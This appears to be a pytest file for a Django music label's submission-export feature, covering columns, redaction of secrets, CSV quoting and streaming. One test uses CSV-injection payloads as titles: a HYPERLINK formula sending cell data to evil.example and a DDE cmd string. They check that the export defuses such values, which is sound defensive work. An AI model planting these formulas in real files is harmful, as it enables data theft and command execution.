"""Exports: their columns, what they never contain, and how they are streamed."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from html import unescape
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from accounts.models import User
from catalog.choices import AIUse
from catalog.models import Collaborator, Genre
from catalog.tests.builders import make_producer, make_track
from desk.export import service as export
from desk.export.export_table import COLUMNS, USUAL, columns_named
from desk.export.service import cell
from kit.clock import at, now
from labels.choices import QuestionKind
from labels.status import suspend
from labels.tests.builders import make_question
from submissions.models import Draft, Submission
from submissions.redaction import redact
from submissions.tests.builders import SUMMARY, act, make_draft, make_submission
from trackflow.testing.cast import Cast
from trackflow.testing.clients import client_of

TOKEN, RLKEY = "s-MjcQ5BtcRPp", "a1b2c3d4e5f6g7h8i9j0k1l2m"
ALL = ",".join(COLUMNS)
SENT = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)


def exported(user: User, kind: str = "csv", **query: str) -> Any:
    return client_of(user).get(reverse(f"desk:export-{kind}", args=["harbour"]), {"q": "ball:any", **query})


def text_of(answer: Any) -> str:
    return b"".join(answer.streaming_content).decode()


def table(user: User, **query: str) -> list[dict[str, str]]:
    text = text_of(exported(user, **query)).removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def objects(user: User, **query: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(text_of(exported(user, "json", **query)))
    return found


def complete_demo(cast: Cast) -> Submission:
    """Return a demo with a value in every column."""
    part = Genre.objects.exclude(parent=None).select_related("parent").earliest("pk")
    with at(SENT):
        demo = cast.demo(
            "in_review",
            title="Night Drive",
            mix="Extended Mix",
            genre=part.parent,
            subgenre=part,
            tempo="126.50",
            isrc="GBX7M2600014",
            exclusivity="sent_elsewhere",
            has_wav=True,
            has_stems=False,
        )
    Submission.objects.filter(pk=demo.pk).update(team_assignee=cast.reviewer)
    return demo


def test_csv_says_every_column(cast: Cast) -> None:
    demo = complete_demo(cast)
    [row] = table(cast.viewer)
    assert list(row) == list(USUAL)
    assert row == {
        "reference": demo.reference,
        "state": "In review",
        "intake": "Demos",
        "sent_at": "2026-03-04T05:06:07Z",
        "opened_at": "2026-03-04T05:06:07Z",
        "answered_at": "",
        "due_at": "2026-03-18T05:06:07Z",
        "last_move_at": "2026-03-04T05:06:07Z",
        "title": "Night Drive",
        "mix": "Extended Mix",
        "genre": str(demo.track.genre),
        "subgenre": str(demo.track.subgenre),
        "bpm": "126.5",
        "key": "A minor",
        "camelot": "8A",
        "duration_seconds": "392",
        "isrc": "GBX7M2600014",
        "audio_link": row["audio_link"],
        "backup_link": row["backup_link"],
        "wav": "yes",
        "stems": "no",
        "artist": demo.artist,
        "country": "SE",
        "ai": AIUse.NO.label,
        "exclusivity": "Also sent to other labels",
        "reason": "",
        "welcome_next": "",
        "release_date": "",
        "catalogue_number": "",
    }
    assert row["audio_link"].startswith("https://soundcloud.com/mara-lindqvist/night-drive-")
    assert row["backup_link"].startswith("https://www.dropbox.com/scl/fi/")


def test_json_says_the_same_with_types(cast: Cast) -> None:
    complete_demo(cast)
    cast.demo("rejected", tempo="128.00")
    first, second = objects(cast.viewer)
    assert (first["bpm"], second["bpm"], first["duration_seconds"]) == (126.5, 128, 392)
    assert first["sent_at"] == "2026-03-04T05:06:07Z"
    assert second["due_at"] is None
    assert (second["reason"], second["welcome_next"]) == ("Not our genre", "Another track")
    assert (first["wav"], first["stems"]) == (True, False)
    as_text = [{name: str(cell(value)) for name, value in each.items()} for each in (first, second)]
    assert as_text == table(cast.viewer)


def test_empty_view_is_a_head_and_an_empty_array(cast: Cast) -> None:
    assert table(cast.viewer, q="is:released") == []
    assert objects(cast.viewer, q="is:released") == []


def test_tokens_and_what_is_private_are_in_no_export(cast: Cast) -> None:
    question = make_question(cast.label.intakes.get(), QuestionKind.LINK, text="Stems?")
    demo = cast.demo("draft", link_password="open-sesame")
    answers = {f"q{question.pk}": "https://example.org/sacred?token=abc"}
    Draft.objects.filter(submission=demo).update(answers=answers)
    act(demo, "submit")
    unknown = make_track(cast.producer, audio_url="https://files.example.org/very/secret.mp3")
    make_submission(manager=cast.manager, label=cast.label, track=unknown)
    secrets = (
        TOKEN,
        RLKEY,
        "open-sesame",
        "sacred",
        "token",
        "secret.mp3",
    )
    for kind in ("csv", "json"):
        text = text_of(exported(cast.owner, kind, columns=ALL))
        assert "https://files.example.org/" in text
        assert [secret for secret in secrets if secret in text] == []


@pytest.mark.parametrize("state", ["rejected", "withdrawn", "declined", "expired"])
def test_links_are_empty_where_the_desk_shows_none(cast: Cast, state: str) -> None:
    cast.demo(state)
    [row] = table(cast.viewer)
    assert (row["audio_link"], row["backup_link"]) == ("", "")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "＝1+1",
    ],
)
def test_formulas_are_defused_in_csv_alone(cast: Cast, title: str) -> None:
    cast.demo(title=title)
    [row] = table(cast.viewer)
    assert row["title"] == f"'{title}"
    assert objects(cast.viewer)[0]["title"] == title


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", ""),
        (None, ""),
        (392, 392),
        (-3, -3),
        (True, "yes"),
        (date(2026, 12, 4), "2026-12-04"),
        (["a", "b"], "a; b"),
        (
            [{"question": "Why?", "answer": ["x", "y"]}, {"question": "When?", "answer": True}],
            "Why?: x; y; When?: yes",
        ),
        (Decimal("122.00"), "122"),
        (Decimal("126.50"), "126.5"),
    ],
)
def test_values_become_cells(value: Any, expected: Any) -> None:
    assert cell(value) == expected


def test_quotes_commas_and_lines_survive_as_rfc_4180_has_them(cast: Cast) -> None:
    cast.demo(title='Say "when", please')
    text = text_of(exported(cast.viewer))
    assert text.startswith("\ufeffreference,state,")
    assert '"Say ""when"", please"' in text
    assert text.endswith("\r\n")
    assert text.count("\n") == text.count("\r\n") == 2


def test_file_is_named_after_label_and_day(cast: Cast) -> None:
    with at(SENT):
        answer = exported(cast.viewer)
        other = exported(cast.viewer, "json")
    assert answer["Content-Disposition"] == 'attachment; filename="harbour-submissions-2026-03-04.csv"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert other["Content-Disposition"] == 'attachment; filename="harbour-submissions-2026-03-04.json"'
    assert (other["Content-Type"], other["Cache-Control"]) == ("application/json", "private, no-store")


def test_query_narrows_and_orders(cast: Cast) -> None:
    for title, tempo in (("Slow", "90"), ("Fast", "170"), ("Middle", "125")):
        cast.demo(title=title, tempo=tempo)
    found = [row["title"] for row in table(cast.viewer, q="bpm:100- sort:fastest")]
    assert found == ["Fast", "Middle"]
    assert [row["title"] for row in objects(cast.viewer, q="slow")] == ["Slow"]


def test_query_that_is_none_is_answered_with_a_sentence(cast: Cast) -> None:
    for kind in ("csv", "json"):
        answer = exported(cast.viewer, kind, q="gerne:techno")
        page = answer.content.decode()
        assert answer.status_code == 422
        assert "Did you mean genre:?" in page
        assert "/desk/harbour/?q=gerne%3Atechno" in page


def test_teams_own_columns_come_when_asked_for(cast: Cast) -> None:
    complete_demo(cast)
    assert "assignee" not in table(cast.viewer)[0]
    for found in (
        table(cast.viewer, columns="assignee,title"),
        objects(cast.viewer, columns="assignee,title"),
    ):
        assert found == [{"title": "Night Drive", "assignee": "Rita"}]


def test_unknown_column_is_answered_with_a_sentence(cast: Cast) -> None:
    answer = exported(cast.viewer, columns="title,colour")
    assert answer.status_code == 422
    assert "There is no column 'colour'." in unescape(answer.content.decode())


def signed_demo(cast: Cast) -> None:
    """Make a scheduled demo with something in each column that is not usual."""
    kinds = {QuestionKind.LONG: "Why us?", QuestionKind.CHOICES: "Where?", QuestionKind.LINK: "Stems?"}
    questions = [
        make_question(cast.label.intakes.get(), kind, text=text, options=["Club", "Radio"])
        for kind, text in kinds.items()
    ]
    track = make_track(
        cast.producer, title="Signed", exclusivity="exclusive_until", exclusive_until=date(2027, 1, 31)
    )
    Collaborator.objects.create(
        track=track, name="Efua", role="vocalist", split="33.50", email="efua@example.org"
    )
    Collaborator.objects.create(track=track, name="=Mallory", role="writer")
    demo = make_draft(label=cast.label, track=track)
    values = ("Because; =1+1", ["Club", "Radio"], "https://example.org/stems?token=abc")
    answers = {f"q{question.pk}": value for question, value in zip(questions, values, strict=True)}
    Draft.objects.update_or_create(submission=demo, defaults={"answers": answers})
    act(demo, "submit")
    act(demo, "start_review", manager=cast.manager)
    act(demo, "accept", manager=cast.manager)
    act(demo, "sign")
    act(demo, "schedule", manager=cast.manager, release_on=date(2099, 12, 4), catalogue_number="HRB-012")


def test_every_column_of_the_desk_can_be_exported(cast: Cast) -> None:
    signed_demo(cast)
    [row] = objects(cast.manager, columns=ALL)
    assert list(row) == list(COLUMNS)
    assert row["contact_email"] == cast.producer.profile.contact_email != ""
    assert row["terms"] == SUMMARY
    assert (row["release_date"], row["catalogue_number"]) == ("2099-12-04", "HRB-012")
    assert row["opened_at"] <= row["answered_at"]
    assert row["opened_by"] == str(cast.manager)
    assert row["exclusivity"] == "Only with you until a date"
    assert row["exclusive_until"] == "2027-01-31"
    assert row["answers"] == [
        {"question": "Why us?", "answer": "Because; =1+1"},
        {"question": "Where?", "answer": ["Club", "Radio"]},
        {"question": "Stems?", "answer": "https://example.org/"},
    ]
    assert row["splits"] == [
        {"name": "Efua", "role": "Vocalist", "split": 33.5, "email": "efua@example.org", "agrees": False},
        {"name": "=Mallory", "role": "Writer", "split": None, "email": "", "agrees": False},
    ]
    assert row["tags"] == []


def test_european_spreadsheet_gets_semicolons_and_decimal_commas(cast: Cast) -> None:
    signed_demo(cast)
    complete_demo(cast)
    columns = "bpm,splits,answers,title"
    text = text_of(exported(cast.manager, columns=columns, separator="semicolon"))
    first, second = csv.DictReader(
        io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";", strict=True
    )
    by_title = {row["title"]: row for row in (first, second)}
    assert by_title["Night Drive"]["bpm"] == "126,5"
    assert by_title["Signed"]["splits"] == "Efua (Vocalist, 33,5 %);' =Mallory (Writer)"
    assert by_title["Signed"]["answers"].startswith(
        "Why us?: Because;' =1+1; Where?: Club; Radio; Stems?: https://"
    )


def test_own_submissions_drafts_and_other_desks_are_absent(cast: Cast) -> None:
    mine = cast.demo()
    cast.demo("draft")
    make_submission(manager=cast.manager, label=cast.label, track=make_track(cast.insider))
    make_submission(track=make_track(make_producer()), label=cast.rival.memberships.get().label)
    assert [row["reference"] for row in table(cast.insider)] == [mine.reference]
    assert len(objects(cast.viewer)) == 2


def test_redacted_and_suspended_are_exported_as_they_stand(cast: Cast) -> None:
    demo = cast.demo("submitted")
    redact(demo.events.get())
    suspend(cast.label, reason="Asked for money.")
    [row] = objects(cast.viewer)
    assert (row["title"], row["bpm"], row["duration_seconds"], row["audio_link"]) == ("", None, None, "")
    assert row["due_at"] is None


def test_reopened_has_no_reason_any_more(cast: Cast) -> None:
    act(cast.demo("rejected"), "reopen", manager=cast.manager)
    [row] = table(cast.viewer)
    assert (row["reason"], row["state"]) == ("", "In review")


@pytest.mark.parametrize(("count", "expected"), [(2, 5), (4, 9), (6, 13)])
def test_export_asks_four_queries_for_each_chunk(
    cast: Cast, monkeypatch: Any, count: int, expected: int, django_assert_num_queries: Any
) -> None:
    monkeypatch.setattr(export, "CHUNK", 2)
    for _ in range(count):
        cast.demo()
    rows = Submission.objects.at_desk(cast.viewer, cast.label).order_by("submitted_at", "id")
    with django_assert_num_queries(
        expected
    ):  # the rows, then of each two: suspensions, decisions, offers, revisions
        assert len(list(export.export_rows(rows, cast.label))) == count


def test_export_is_made_while_it_is_read(
    cast: Cast, monkeypatch: Any, django_assert_num_queries: Any
) -> None:
    monkeypatch.setattr(export, "CHUNK", 2)
    for hours in range(6):
        with at(now() - timedelta(hours=hours)):
            cast.demo()
    rows = Submission.objects.at_desk(cast.viewer, cast.label).order_by("submitted_at", "id")
    lines: Iterator[str] = export.as_csv(export.export_rows(rows, cast.label), columns_named(list(COLUMNS)))
    with django_assert_num_queries(0):
        next(lines)
    with django_assert_num_queries(5):
        assert [next(lines), next(lines)]
    assert isinstance(exported(cast.viewer), StreamingHttpResponse)
